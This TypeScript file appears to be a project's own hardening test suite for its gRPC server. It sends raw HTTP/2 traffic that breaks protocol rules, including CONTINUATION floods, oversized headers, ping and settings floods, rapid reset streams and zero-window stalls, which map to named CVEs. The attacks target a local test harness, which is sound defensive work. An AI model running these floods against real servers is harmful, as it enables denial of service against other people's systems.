/**
 * Attacks on the gRPC port in HTTP/2's own terms (RFC 9113): raw conversations that no client library would hold.
 *
 * @module
 */

import { Buffer } from "node:buffer";
import { create, toBinary } from "@bufbuild/protobuf";
import { GetAgentManifestRequestSchema } from "../../proto/gen/rune/vault/v1/vault_pb.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frameOf,
  named,
  type RawHttp2,
  REMEMBERED,
} from "../../server/grpc/_raw_http2.ts";
import { frame } from "../../server/grpc/_test_support.ts";
import { VIOLATIONS } from "../../server/grpc/_violations.ts";
import { sleep } from "../clients.ts";
import type { Attack, Siege } from "./attack.ts";
import { binaryCanServeTls } from "./programs.ts";
import { crowd, Ground } from "./ground.ts";

const PATH = { ":path": "/rune.vault.v1.VaultService/GetAgentManifest" };
const AT_ONCE = 20;

/** How one of these attacks is laid: `share` of it, once to warm up and once in full. */
type Laid = (ground: Ground, share: number, siege: Siege) => Promise<void>;

function http2Attack(
  name: string,
  what: (siege: Siege) => string,
  lay: Laid,
  hasTls: Attack["hasTls"] = "long",
): Attack {
  return {
    name,
    hasTls,
    run: async (siege) => {
      await using ground = await Ground.start(siege);
      return `${what(siege)}; ${await ground.besiegeTwice((share) => lay(ground, share, siege))}`;
    },
  };
}

function times({ isLong }: Siege, long: number, share = 1): number {
  return Math.ceil(share * (isLong ? long : long / 10));
}

function body(token: string): Buffer {
  const request = create(GetAgentManifestRequestSchema, { token });
  return frame(toBinary(GetAgentManifestRequestSchema, request));
}

const CONVERSATIONS = 2000;

/** Goes away in the middle: by reset, by GOAWAY, by silence, by closing. In which way depends on `index`. */
export const vanishing: Attack = http2Attack(
  "http2 vanish",
  (siege) => `${times(siege, CONVERSATIONS)} conversations reset, idle, say GOAWAY and vanish`,
  (ground, share, siege) =>
    crowd(times(siege, CONVERSATIONS, share), AT_ONCE, async (index) => {
      using raw = await ground.converse();
      const calls = 1 + index % 7;
      for (let call = 0; call < calls; call++) {
        const stream = 1 + 2 * call;
        await raw.sendHeaders(stream, PATH);
        if (index % 2 === 0) await raw.send(FRAME.data, END_STREAM, stream, body(ground.token));
        if (index % 3 !== 0) await raw.send(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, 8]));
      }
      await sleep(index % 5 * 20);
      if (index % 4 !== 0) await raw.send(FRAME.goaway, 0, 0, Buffer.alloc(8));
      if (index % 4 === 1) await sleep(100);
    }),
);

/** Breaks each of the rules, some times over. */
export const violations: Attack = http2Attack(
  "http2 violations",
  (siege) => `${Object.keys(VIOLATIONS).length} ways to break the rules, ${times(siege, 50)} times each`,
  (ground, share, siege) => {
    const ways = Object.values(VIOLATIONS);
    return crowd(ways.length * times(siege, 50, share), AT_ONCE, async (index) => {
      using raw = await ground.converse();
      await ways[index % ways.length]!(raw);
      await sleep(20);
    });
  },
  true,
);

const HEADER_STREAMS = 4000;

/** Headers that are large, endless, thousands, or named by a byte each: CVE-2024-27316 and its kin. */
export const headers: Attack = http2Attack(
  "http2 headers",
  (siege) =>
    `${
      times(siege, HEADER_STREAMS)
    } streams of large headers, CONTINUATION frames without end, and headers that are named by ` +
    `a byte each; ${NO_NAMES}`,
  async (ground, share, siege) => {
    const isOld = siege.program === "binary" && !await binaryCanServeTls();
    await crowd(times(siege, HEADER_STREAMS / 100, share), 4, async (index) => {
      using raw = await ground.converse();
      if (index % 2 === 0) await endlessContinuation(raw);
      else if (index % 4 === 1 || isOld) await largeHeaders(raw, 200);
      else await namedHeaders(raw, 200);
    });
  },
);

/** Such a runtime keeps what they come to, and reads the connection by itself (`server/grpc/header_watch.ts`). */
const NO_NAMES = "none of the last where the runtime is older than Deno 2.7.13";

async function namedHeaders(raw: RawHttp2, streams: number): Promise<void> {
  for (let i = 0; i < streams && !raw.closed; i++) {
    const block = Buffer.concat([i === 0 ? REMEMBERED : Buffer.alloc(0), named(i % 2 === 0 ? 140 : 100)]);
    await raw.sendHeaders(1 + 2 * i, PATH, END_HEADERS, block);
  }
}

async function endlessContinuation(raw: RawHttp2): Promise<void> {
  await raw.sendHeaders(1, PATH, 0);
  const block = Buffer.concat(Array.from({ length: 100 }, (_, i) => literal(`x-${i}`, "v".repeat(100))));
  for (let sent = 0; sent < 2000 && !raw.closed; sent++) await raw.send(FRAME.continuation, 0, 1, block);
}

async function largeHeaders(raw: RawHttp2, streams: number): Promise<void> {
  const large = Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`x-large-${i}`, "v".repeat(1500)]));
  for (let i = 0; i < streams && !raw.closed; i++) await raw.sendHeaders(1 + 2 * i, { ...PATH, ...large });
}

function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

const STALLED = 200;

/** Asks and takes nothing: no window for the answers, or none any more. */
export const stalls: Attack = http2Attack(
  "http2 windows",
  (siege) => `${times(siege, STALLED)} connections of 100 calls each that give the answers no window`,
  (ground, share, siege) => stall(ground, times(siege, STALLED, share)),
);

function stall(ground: Ground, connections: number): Promise<void> {
  return crowd(connections, AT_ONCE, async (index) => {
    using raw = await ground.converse();
    await raw.send(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, index % 2]));
    for (let call = 0; call < 100 && !raw.closed; call++) {
      await raw.sendHeaders(1 + 2 * call, PATH);
      await raw.send(FRAME.data, END_STREAM, 1 + 2 * call, body(ground.token));
    }
    if (index % 3 === 0) await raw.send(FRAME.windowUpdate, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff]));
    await sleep(300);
  });
}

const FLOOD_FRAMES = 100_000;
/** Such a runtime ends by a double free where 1,000 streams are opened and reset before the limit of 300 has its turn. */
const EXCEPT = "no resets where the runtime is older than Deno 2.7.13, which they end";

/** Frames that want an answer and cost nothing to send: pings, settings, resets (CVE-2019-9512, -9515, CVE-2023-44487). */
export const floods: Attack = http2Attack(
  "http2 floods",
  (siege) =>
    `${times(siege, FLOOD_FRAMES)} pings, as many settings, a quarter as many streams opened and reset; ${EXCEPT}`,
  async (ground, share, siege) => {
    const frames = times(siege, FLOOD_FRAMES, share);
    const ping = frameOf(FRAME.ping, 0, 0, Buffer.alloc(8));
    const settings = frameOf(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
    const kinds = siege.program === "binary" && !await binaryCanServeTls() ? 2 : 3;
    await crowd(kinds, kinds, async (kind) => {
      if (kind === 2) return await rapidResets(() => ground.converse(), frames / 4);
      using raw = await ground.converse();
      const batch = Buffer.concat(Array.from({ length: 1000 }, () => kind === 0 ? ping : settings));
      for (let sent = 0; sent < frames && !raw.closed; sent += 1000) await raw.sendBytes(batch);
    });
  },
);

/** Opens and resets; the server ends a connection that does so, and the next one goes on. */
export async function rapidResets(converse: () => Promise<RawHttp2>, streams: number): Promise<void> {
  for (let left = streams; left > 0;) {
    using raw = await converse();
    for (let i = 0; left > 0 && !raw.closed; i++, left--) {
      await raw.sendHeaders(1 + 2 * i, PATH, END_HEADERS);
      await raw.send(FRAME.rstStream, 0, 1 + 2 * i, Buffer.from([0, 0, 0, 8]));
    }
  }
}
